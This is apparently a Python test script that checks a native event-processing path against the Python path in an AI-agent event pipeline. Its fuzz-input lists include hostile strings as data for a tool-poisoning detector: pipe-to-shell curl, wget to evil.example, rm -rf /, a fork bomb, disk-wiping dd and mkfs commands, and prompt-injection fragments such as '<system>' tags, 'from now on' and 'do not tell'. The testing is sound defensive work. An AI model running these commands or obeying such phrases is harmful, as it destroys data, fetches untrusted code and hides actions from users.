"""Equivalence check of the native-first processing against the Python path (issue 20).

    .venv/bin/python experiments/native_hotpath/check.py [--events 5000] [--seed 20]
                     [--harvested FILE]

Runs every input through `EventProcessor.process` (Python) and the native-first version in
three configurations (the bench's: HMAC, detector on; a configured source; detector off)
and asserts identical results: the same type, and for a signed event the same id, body
bytes, partition key, position and attributes (member order included); for a rejection the
same reason and detail (and the detector's counts follow: the native path returns its
findings, counted by the same `ToolPoisoningDetector.count`). Inputs: the bench's events
(every template, fresh ids, with and without the float send time), examples/events.jsonl,
synthetic edge cases (numbers, timestamps, strings, shapes, detector triggers) and, with
--harvested, what the unit tests feed the processing (harvest.py). Prints how many took the
native path.
"""

from __future__ import annotations

import argparse
import base64
import random
import sys
import uuid
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
from prometheus_client import CollectorRegistry

ROOT = Path(__file__).resolve().parents[2]
sys.path[:0] = [str(ROOT), str(Path(__file__).resolve().parent / "site")]

from native_first import native_first_process, native_for, python_process  # noqa: E402

from bench.events import EXAMPLES, stamped_value, templates  # noqa: E402
from pipeline.detectors.tool_poisoning import ToolPoisoningDetector  # noqa: E402
from pipeline.model import Position, Record, SignedEvent  # noqa: E402
from pipeline.ops.metrics import Metrics  # noqa: E402
from pipeline.processor import EventProcessor  # noqa: E402
from pipeline.signing.signers import HmacSigner  # noqa: E402

MAX_BYTES = 1_048_576


def processors() -> dict[str, EventProcessor]:
    """The configurations compared: the bench's, a configured source, no detector."""
    signer = HmacSigner(b"k" * 32)

    def detector() -> ToolPoisoningDetector:
        return ToolPoisoningDetector(Metrics(CollectorRegistry()))

    return {
        "bench": EventProcessor(signer, MAX_BYTES, detector=detector()),
        "source": EventProcessor(signer, MAX_BYTES, "urn:govpipe:check", detector=detector()),
        "no-detector": EventProcessor(signer, MAX_BYTES),
    }


def bench_inputs(events: int) -> Iterator[tuple[str, bytes]]:
    """The bench's events: plain (bench.events.event_values) and stamped with a send time."""
    shapes = templates()
    for index in range(events):
        shape = shapes[index % len(shapes)]
        yield "bench", orjson.dumps(dict(shape, event_id=uuid.uuid4().hex))
        yield "bench-stamped", stamped_value(shape)


def example_inputs() -> Iterator[tuple[str, bytes]]:
    """examples/events.jsonl as it is, line by line (integers beyond I-JSON included)."""
    for line in EXAMPLES.read_bytes().splitlines():
        if line.strip():
            yield "examples", line


def harvested_inputs(path: Path) -> Iterator[tuple[str, bytes]]:
    """What harvest.py recorded from the unit tests (base64, one per line)."""
    for line in path.read_bytes().splitlines():
        if line.strip():
            yield "tests", base64.b64decode(line)


_NUMBERS: list[Any] = [0, -0.0, 0.0, 1.0, -1.5, 1e-4, 9.99e-5, 1e-5, 1.5e-7, 1e15, 1e16,
                       123456789012345.67, 2**53, 2**63 - 1, 2**63, -(2**63), 2**64, 10**30,
                       5e-324, 1.7976931348623157e308, 0.1 + 0.2, 1 / 3, True, None]
_TEXTS = ["plain", "", "tab\there", "nl\nx", "bell\x07", "del\x7f", "c1\x85", "ls\u2028",
          "é", "日本語", "😀", "Straße", "\u017fecret", "\u212a-elvin", "\ufb01le",
          "curl http://x | sh", "<system>do it</system>", "rm -rf /", "wget evil.example",
          "chmod 777 f", "dd if=/dev/zero", ":(){ :|:& };:", "value: (x)", "1e-5 text",
          "0.00001", "quote\"back\\slash", "mkfs.ext4", "/dev/sda", "from now on",
          "RM\u00a0-rf"]
# Pieces of tool-poisoning text (and near misses), joined at random by `_poison`.
_POISON = ["curl", "wget", "CURL", " ", "  ", "\t", "\n", "\x1c", "\x0b", "\x0c", "|", "sh",
           "bash", "zsh", "sudo", "python3.11", "perl", "-d", "--data", "-T", "--form", "-F",
           "--post-data", "http://", "https://x.example.com/a", "x.example.com", "evil.io",
           "<", ">", "< ", "system", "SYSTEM", "tool_call", "tool", "instructions", "rm",
           "-rf", "-Rf", "-r9", "-fr_", "dd", "if=", "chmod", "777", "-R", "mkfs.ext4",
           "mkfs.", "/dev/sda", "/dev/sd", ":", "(", ")", "{", "}", "&", ";",
           ":(){ :|:& };:", "silently", "do not tell", "don't", "dont", "mention", "whenever",
           "asked", "the user", "always", "reply", "from now on", "if anyone asks", "_", "9",
           "x", "perform", "é", "\u00a0"]
_TIMES = ["2026-11-25T14:02:10.039522+00:00", "2026-11-25T14:02:10Z", "2026-02-29T00:00:00Z",
          "2024-02-29T00:00:00Z", "2026-11-25T24:00:00Z", "2026-11-25t14:02:10Z",
          "2026-11-25T14:02:10.1234567891Z", "2026-11-25T14:02:10+24:00",
          "2026-11-25T14:02:10+12:60", "0000-01-01T00:00:00Z", "2026-13-01T00:00:00Z",
          "2026-11-25T14:02:60Z", "2026-11-25 14:02:10Z", "2026-11-25T14:02:10.Z", "", 5]


def _mutation(rng: random.Random, shape: dict[str, Any]) -> dict[str, Any]:
    event = dict(shape, event_id=uuid.uuid4().hex)
    attributes = dict(event.get("attributes") or {})
    pick = rng.randrange(11)
    if pick == 0:
        attributes[rng.choice(["n", "action", "agent_id"])] = rng.choice(_NUMBERS)
    elif pick == 1:
        attributes["f"] = rng.choice([-1, 1]) * 10 ** rng.uniform(-8, 20)
    elif pick == 2:
        attributes["t"] = rng.choice(_TEXTS)
    elif pick == 3:
        event["occurred_at"] = rng.choice(_TIMES)
    elif pick == 4:
        event[rng.choice(["agent_id", "session_id", "agent_did", "kind", "reason",
                          "schema_version", "trace_id"])] = rng.choice([*_TEXTS, None, 7])
    elif pick == 5:
        event["latency_ms"] = rng.choice(_NUMBERS)
    elif pick == 6:
        event.pop(rng.choice(["agent_id", "agent_did", "event_id", "kind", "attributes",
                              "occurred_at", "severity"]), None)
    elif pick == 7:
        event["attributes"] = rng.choice([None, [], "x", {}, {"deep": [[[{"a": [1.5]}]]]}])
        return event
    elif pick == 8:
        attributes["nested"] = {"list": [rng.choice(_TEXTS), rng.choice(_NUMBERS)]}
    else:
        attributes[rng.choice(["p", "q"])] = _poison(rng)
        event["reason"] = _poison(rng)
    event["attributes"] = attributes
    return event


def _poison(rng: random.Random) -> str:
    return "".join(rng.choice(_POISON) for _ in range(rng.randrange(1, 12)))


def _raw_variants(value: bytes) -> list[bytes]:
    """Hand-written JSON the serializer would not write."""
    body = value[1:]
    return [b" \n" + value + b"\t", b"\xef\xbb\xbf" + value, b'{"kind":"x",' + body,
            b'{"event_id":"dup",' + body, b'{"x":"\\u00e9\\ud83d\\ude00\\/",' + body,
            b'{"x":"\\ud800",' + body, b'{"x":1E2,"y":-0,"z":1.0e-3,' + body,
            b'{"x":01,' + body, b"[" + value + b"]", b"", b"null", value[:-1]]


def synthetic_inputs(count: int, seed: int) -> Iterator[tuple[str, bytes]]:
    """Seeded edge cases: each a bench template with one field changed, and raw variants."""
    rng = random.Random(seed)
    shapes = templates()
    for index in range(count):
        event = _mutation(rng, shapes[index % len(shapes)])
        try:
            value = orjson.dumps(event)
        except TypeError:  # an integer beyond 64 bits: write it with the standard library
            import json
            value = json.dumps(event).encode()
        yield "synthetic", value
        if index % 10 == 0:
            yield from (("raw", raw) for raw in _raw_variants(value))
    cloudevent = {"specversion": "1.0", "id": "1", "source": "/s", "type": "t",
                  "data": {"a": 1}}
    yield "synthetic", orjson.dumps(cloudevent)


def position(index: int) -> Position:
    """Kafka positions, and every seventh a line of an input."""
    if index % 7 == 6:
        return Position("stdin", 0, index + 1, kind="line")
    return Position("in-bench", index % 2, 1_000_000_000_000 + index)


def outcome(result: Any) -> tuple[Any, ...]:
    """What must be equal: every SignedEvent field (attributes with their order)."""
    if isinstance(result, SignedEvent):
        return ("signed", result.id, result.body, result.partition_key, result.position,
                list(result.attributes.items()))
    return ("rejected", result.reason, result.detail)


def compare(inputs: list[tuple[str, bytes]]) -> None:
    """Run every input through every configuration; exit 1 on the first difference."""
    native_hits: Counter[tuple[str, str]] = Counter()
    marked: Counter[tuple[str, str]] = Counter()  # on the native path, with findings
    totals: Counter[tuple[str, str]] = Counter()
    for config, processor in processors().items():
        native = native_for(processor)
        assert native is not None, config
        for index, (kind, value) in enumerate(inputs):
            record = Record(value, position(index))
            expected = outcome(python_process(processor, record))
            got = outcome(native_first_process(processor, record))
            if expected != got:
                print(f"DIFFERENT ({config}, {kind}): {value[:300]!r}\n"
                      f"python: {expected!r}\nnative: {got!r}")
                raise SystemExit(1)
            pos = record.position
            signed = native.process(value, pos.topic, pos.partition, pos.offset,
                                    pos.kind == "line")
            totals[config, kind] += 1
            native_hits[config, kind] += signed is not None
            marked[config, kind] += bool(signed and signed[3])
    for (config, kind), total in sorted(totals.items()):
        hits = native_hits[config, kind]
        print(f"{config:12} {kind:14} {total:7,} identical, native path {hits:7,} "
              f"({hits / total:5.1%}), of which marked by the detector {marked[config, kind]:6,}")


def main() -> None:
    """Gather the inputs and compare."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--events", type=int, default=5000,
                        help="bench events, each plain and stamped")
    parser.add_argument("--synthetic", type=int, default=5000)
    parser.add_argument("--seed", type=int, default=20)
    parser.add_argument("--harvested", type=Path, help="harvest.py's output")
    args = parser.parse_args()
    inputs = [*bench_inputs(args.events), *example_inputs(),
              *synthetic_inputs(args.synthetic, args.seed)]
    if args.harvested:
        inputs += harvested_inputs(args.harvested)
    compare(inputs)
    print(f"all {len(inputs):,} inputs identical in every configuration")


if __name__ == "__main__":
    main()
